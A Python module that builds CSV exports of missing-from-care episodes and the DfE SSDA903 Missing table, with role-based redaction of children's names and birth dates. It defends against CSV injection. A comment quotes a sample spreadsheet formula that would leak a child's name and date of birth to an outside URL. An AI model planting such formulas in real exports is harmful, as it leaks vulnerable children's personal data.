"""Exports for the quarterly analysis (SUM-QUARTER) and the SSDA903 Missing table.

CSV for a period, limited to the children the caller may see and the fields their role may
read: names and dates of birth only for roles entitled to the profile.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime, time
from zoneinfo import ZoneInfo

from reminders.access import can_see, may
from storage import child_store, duty_store, episode_store, staff_store
from storage.db import Reader
from storage.models import Category, Child, EpisodeState, Staff

# A spreadsheet runs a cell beginning with one of these as a formula (OWASP, CSV injection):
# a carer's `=HYPERLINK("https://…?d="&D2&E2)` beside a child's name and date of birth.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral(cell: object) -> object:
    """A text cell a spreadsheet would read as a formula is prefixed with a single quote."""
    if isinstance(cell, str) and cell.startswith(FORMULA_START):
        return "'" + cell
    return cell


def _csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows([neutral(cell) for cell in row] for row in rows)
    return buffer.getvalue()


def _iso(at: datetime | None, zone: ZoneInfo) -> str:
    return at.astimezone(zone).isoformat(timespec="minutes") if at else ""


async def _visible(r: Reader, staff: Staff) -> dict[int, Child]:
    return {c.id: c for c in await child_store.list_children(r) if can_see(staff, c)}


async def period(
    r: Reader, staff: Staff, start: datetime, end: datetime, zone: ZoneInfo
) -> dict[str, str]:
    """episodes.csv, events.csv and duties.csv for episodes running in [start, end)."""
    children = await _visible(r, staff)
    episodes = [
        e for e in await episode_store.episodes_overlapping(r, start, end) if e.child_id in children
    ]
    names = {s.id: s.name for s in await staff_store.list_staff(r)}

    def person(child: Child) -> tuple[str, str]:
        if not may(staff, "profile", child):
            return "", ""
        return child.full_name or "", child.dob.isoformat() if child.dob else ""

    episode_rows = []
    for e in episodes:
        child = children[e.child_id]
        full_name, dob = person(child)
        episode_rows.append(
            [
                e.id, child.ref, child.first_name, full_name, dob, child.area,
                child.legal_status.value, e.category.value, "yes" if e.ever_missing else "no",
                _iso(e.last_seen_at, zone), e.last_seen_place, _iso(e.reported_at, zone),
                e.police_ref or "", e.police_grade.value if e.police_grade else "",
                _iso(e.found_at, zone), e.end_reason.value if e.end_reason else "",
                e.found_where or "", e.rhi_status.value if e.rhi_status else "", e.state.value,
            ]
        )  # fmt: skip
    ids = {e.id for e in episodes}
    event_rows = []
    duty_rows = []
    for episode_id in sorted(ids):
        child = children[next(e.child_id for e in episodes if e.id == episode_id)]
        for ev in await episode_store.events_for_episode(r, episode_id):
            event_rows.append(
                [
                    episode_id, child.ref, _iso(ev.at, zone), _iso(ev.recorded_at, zone),
                    names.get(ev.actor_id or "", "bot"), ev.kind, ev.rule_id or "", ev.text,
                ]
            )  # fmt: skip
        for d in await duty_store.duties_for_episode(r, episode_id):
            duty_rows.append(
                [
                    d.label, episode_id, child.ref, d.rule_id, _iso(d.created_at, zone),
                    _iso(d.due_at, zone), names.get(d.owner_id or "", ""), d.state.value,
                    names.get(d.closed_by or "", ""), _iso(d.closed_at, zone), d.note or "",
                ]
            )  # fmt: skip
    return {
        "episodes.csv": _csv(
            [
                "episode",
                "child_ref",
                "first_name",
                "full_name",
                "dob",
                "area",
                "legal_status",
                "category",
                "reported_to_police",
                "last_seen",
                "last_seen_place",
                "reported_at",
                "police_ref",
                "police_grade",
                "found_at",
                "end_reason",
                "found_where",
                "return_interview",
                "state",
            ],
            episode_rows,
        ),  # fmt: skip
        "events.csv": _csv(
            ["episode", "child_ref", "at", "recorded_at", "by", "kind", "rule", "text"],
            event_rows,
        ),
        "duties.csv": _csv(
            [
                "duty",
                "episode",
                "child_ref",
                "rule",
                "created",
                "due",
                "owner",
                "state",
                "closed_by",
                "closed_at",
                "note",
            ],
            duty_rows,
        ),  # fmt: skip
    }


def collection_year(year: int, zone: ZoneInfo) -> tuple[datetime, datetime]:
    """The SSDA903 collection year as the DfE (and its validator's `collectionYear`) name it:
    the year it ends, so 2027 is 1 April 2026 to 31 March 2027, local time."""
    return (
        datetime.combine(date(year - 1, 4, 1), time(0), tzinfo=zone),
        datetime.combine(date(year, 4, 1), time(0), tzinfo=zone),
    )


def read_collection_year(text: str) -> int:
    """'2027', '2026-27' or '2026/27' → 2027 (the year the return ends)."""
    cleaned = text.strip()
    if cleaned.isdigit() and len(cleaned) == 4:
        return int(cleaned)
    for sep in ("-", "/"):
        first, _, second = cleaned.partition(sep)
        if first.isdigit() and len(first) == 4 and second.isdigit() and len(second) in (2, 4):
            end = int(first) + 1
            if int(second) in (end, end % 100):
                return end
    raise ValueError(
        f"{text!r} is not a collection year: give the year the return ends (2027 for "
        "April 2026 to March 2027) or the span (2026-27)"
    )


def _dmy(at: datetime | date | None, zone: ZoneInfo) -> str:
    if at is None:
        return ""
    if isinstance(at, datetime):
        at = at.astimezone(zone).date()
    return at.strftime("%d/%m/%Y")


async def ssda903_missing(r: Reader, staff: Staff, year: int, zone: ZoneInfo) -> str:
    """The Missing table for collection year `year` (the year it ends, as the DfE count):
    CHILD, DOB, MISSING (M missing, A away without authorisation), MIS_START, MIS_END, as the
    DfE's validator (csc-validator-be-903) reads it. Dates are dd/mm/yyyy; MIS_END is blank
    while the child is still missing at the end of the year (after 31 March it belongs to the
    next return). DOB only where `staff` may see the child's profile. An absence never
    reported missing nor known to be away is not a 903 episode and is left out."""
    start, end = collection_year(year, zone)
    children = await _visible(r, staff)
    rows = []
    for e in await episode_store.episodes_started_between(r, start, end):
        if e.child_id not in children:
            continue
        if e.ever_missing or e.category is Category.MISSING:
            code = "M"
        elif e.category is Category.AWAY:
            code = "A"
        else:
            continue
        child = children[e.child_id]
        finished = e.found_at if e.state is not EpisodeState.OPEN else None
        if finished is not None and finished >= end:
            finished = None  # still missing on 31 March
        dob = child.dob if may(staff, "profile", child) else None
        rows.append(
            [child.ref, _dmy(dob, zone), code, _dmy(e.last_seen_at, zone), _dmy(finished, zone)]
        )
    return _csv(["CHILD", "DOB", "MISSING", "MIS_START", "MIS_END"], rows)
